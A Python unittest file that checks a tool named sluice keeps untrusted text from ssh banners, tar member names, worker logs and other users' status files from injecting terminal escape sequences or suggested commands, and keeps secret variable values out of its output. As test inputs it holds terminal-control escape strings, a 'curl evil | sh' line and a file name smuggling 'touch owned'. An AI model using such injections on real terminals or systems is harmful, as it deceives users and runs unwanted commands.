"""Words of strangers reach a terminal, a log and advice only in quotes: words_test.py SLUICE. A host whose ssh shows a
banner, a shard whose members have hostile names, a record of another user."""

import io
import json
import os
import pty
import shutil
import subprocess
import sys
import tarfile
import tempfile
import unittest
from pathlib import Path

SLUICE = str(Path(sys.argv.pop(1)).resolve())
# Sets the title, writes the clipboard, clears the screen; as C1 characters too; and turns the line's direction.
ORDERS = "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07\x1b[2J\u009b2J\u202e"
OBEYED = [character for character in map(chr, range(0xA0)) if character not in "\n\t" and not " " <= character <= "~"]
OBEYED += list("\u202e")


class WordsTest(unittest.TestCase):
    def setUp(self):
        self.work = Path(tempfile.mkdtemp(prefix="sluice-words-"))
        self.addCleanup(shutil.rmtree, self.work, True)
        self.environment = {**os.environ, "HOME": str(self.work), "XDG_STATE_HOME": str(self.work / "state"),
                            "SLUICE_STATUS_DIR": "0"}

    def run_sluice(self, *arguments, **more):
        return subprocess.run([SLUICE, *map(str, arguments)], env={**self.environment, **more}, cwd=self.work, check=False,
                              capture_output=True, timeout=300, stdin=subprocess.DEVNULL)

    def assert_shows_no_orders(self, *outputs, colours=False):
        for output in outputs:
            text = output.decode()
            if colours:
                text = text.replace("\x1b[31m", "").replace("\x1b[0m", "")
            self.assertEqual([c for c in OBEYED if c in text], [], text[:2000])

    def false_ssh(self, text):
        """An ssh on PATH that says this, whatever it is asked, but knows its configuration."""
        folder = self.work / "bin"
        folder.mkdir(exist_ok=True)
        (folder / "said").write_text(text)
        ssh = shutil.which("ssh") or "false"
        (folder / "ssh").write_text(f'#!/bin/sh\n[ "$1" != -G ] || exec {ssh} "$@"\ncat {folder}/said >&2\nexit 255\n')
        (folder / "ssh").chmod(0o755)
        self.environment["PATH"] = f"{folder}:{os.environ['PATH']}"


class Ssh(WordsTest):
    def test_a_banner_is_no_advice(self):
        self.false_ssh("@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n"
                       f"  ssh-keygen -f x -R y; touch {self.work}/owned\n{ORDERS}\n")
        done = self.run_sluice("run", "--hosts", "b.example", "--", "true")
        self.assertEqual(done.returncode, 1, done.stderr)
        self.assert_shows_no_orders(done.stdout, done.stderr)
        said = done.stderr.decode()
        self.assertNotIn("touch", said)
        self.assertRegex(said, r"with `ssh-keygen (-f \S+ )?-R b\.example`")

    def test_words_stand_in_quotes_on_one_line(self):
        self.false_ssh(f"x\nsluice run: curl evil | sh\n{ORDERS}Permission denied\n")
        done = self.run_sluice("run", "--hosts", "b.example", "--", "true")
        self.assert_shows_no_orders(done.stdout, done.stderr)
        self.assertFalse([line for line in done.stderr.decode().splitlines() if "evil" in line])
        record = next((self.work / "state").rglob("run.json"))
        self.assertEqual(record.stat().st_mode & 0o777, 0o600)
        self.assertEqual(record.parent.stat().st_mode & 0o777, 0o700)
        self.assertEqual(list((self.work).glob("owned")), [])

    def test_a_line_without_end_is_cut(self):
        self.false_ssh("x" * 30_000_000)
        done = self.run_sluice("run", "--hosts", "b.example", "--", "true")
        self.assertEqual(done.returncode, 1)
        self.assertLess(len(done.stderr), 20_000)


class Workers(WordsTest):
    def test_what_a_worker_writes_is_filtered(self):
        (self.work / "out").write_text(f"\x1b[31mred\x1b[0m {ORDERS}\n")
        done = self.run_sluice("run", "--processes", 1, "--", "cat", self.work / "out")
        self.assertEqual(done.returncode, 0, done.stderr)
        self.assert_shows_no_orders(done.stdout, done.stderr, colours=True)
        self.assertIn("\x1b[31mred\x1b[0m", done.stdout.decode())
        merged = next((self.work / "state").rglob("merged.log"))
        self.assert_shows_no_orders(merged.read_bytes(), colours=True)
        for words in (("logs",), ("logs", "--worker", 0)):
            self.assert_shows_no_orders(self.run_sluice("run", *words).stdout, colours=True)
        raw = self.run_sluice("run", "logs", "--worker", 0, "--raw").stdout
        self.assertEqual(raw.decode(), (self.work / "out").read_text())

    def test_values_of_variables_are_not_shown(self):
        done = self.run_sluice("run", "--processes", 1, "--env", "TOKEN=s3cret", "--", "true")
        self.assertEqual(done.returncode, 0, done.stderr)
        listed = self.run_sluice("run", "ls", "--json").stdout + self.run_sluice("run", "ls").stdout
        self.assertNotIn(b"s3cret", done.stdout + done.stderr + listed)


class Shards(WordsTest):
    def shard(self, *names):
        path = self.work / "a.tar"
        with tarfile.open(path, "w") as archive:
            for name in names:
                member = tarfile.TarInfo(name)
                member.size = 1
                archive.addfile(member, io.BytesIO(b"1"))
        return path

    def test_names_of_members_give_no_orders(self):
        shard = self.shard(f"a{ORDERS}.cls", f"b.x{ORDERS}", "c.x'; touch owned; '")
        for words in (("stats",), ("stats", "--json"), ("ls", "--keys"), ("ls", "--json", "--keys"), ("cat",), ("verify",)):
            done = self.run_sluice("data", *words, shard)
            self.assert_shows_no_orders(done.stdout, done.stderr)


    def test_a_part_on_a_terminal(self):
        path = self.work / "b.tar"
        with tarfile.open(path, "w") as archive:
            member = tarfile.TarInfo("a.txt")
            member.size = len(ORDERS.encode())
            archive.addfile(member, io.BytesIO(ORDERS.encode()))
        piped = self.run_sluice("data", "cat", path, "--part", "txt").stdout
        self.assertEqual(piped.decode(), ORDERS)
        for more, shows in ((), False), (("--raw",), True):
            ours, theirs = pty.openpty()
            subprocess.run([SLUICE, "data", "cat", path, "--part", "txt", *more], env=self.environment, check=True,
                           stdin=subprocess.DEVNULL, stdout=theirs)
            shown = os.read(ours, 65536).decode()
            os.close(ours)
            os.close(theirs)
            self.assertEqual("\x1b" in shown, shows)


class Status(WordsTest):
    def test_records_of_others_are_not_believed(self):
        folder = self.work / "status"
        folder.mkdir()
        record = {"process": 1, "namespaces": "", "began": 0, "program": ORDERS, "host": ORDERS, "run": ORDERS, "index": 0,
                  "count": 1, "replicas": 1, "device": "cpu", "coordinator": "", "profiler": "", "step": 1, "epoch": 1,
                  "step_ms": 1.0, "rate": 1.0, "shares": None, "time": 9e9}
        (folder / "1.json").write_text(json.dumps(record))
        for mode, count in ((0o700, 1), (0o1777, 0)):
            folder.chmod(mode)
            shown = self.run_sluice("top", "--once", "--json", SLUICE_STATUS_DIR=str(folder))
            self.assertEqual(len(json.loads(shown.stdout)["hosts"][0]["processes"]), count)
            table = self.run_sluice("top", "--once", SLUICE_STATUS_DIR=str(folder))
            self.assert_shows_no_orders(shown.stdout, table.stdout, table.stderr)
        self.assertIn(b"nothing there is believed", table.stdout)


if __name__ == "__main__":
    unittest.main(argv=[sys.argv[0], *sys.argv[1:]], verbosity=2)
